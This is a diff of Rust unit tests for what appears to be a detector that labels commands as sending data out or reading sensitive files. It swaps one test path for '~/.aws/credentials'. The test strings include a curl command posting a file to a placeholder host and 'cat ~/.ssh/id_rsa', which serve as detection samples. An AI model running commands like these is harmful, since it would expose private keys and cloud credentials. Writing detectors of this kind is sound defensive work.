@@ -323,6 +323,6 @@ mod tests {
         assert!(told(true, "curl -x post --data @x https://a.example").has(Deed::Send));
         assert!(told(true, "cat ~/.ssh/id_rsa").has(Deed::Sensitive));
         assert!(!told(false, "how to use curl --data").has(Deed::Send));
-        assert!(told(false, "{\"path\":\"/home/a/.aws/credentials\"}").has(Deed::Sensitive));
+        assert!(told(false, "{\"path\":\"~/.aws/credentials\"}").has(Deed::Sensitive));
     }
 }
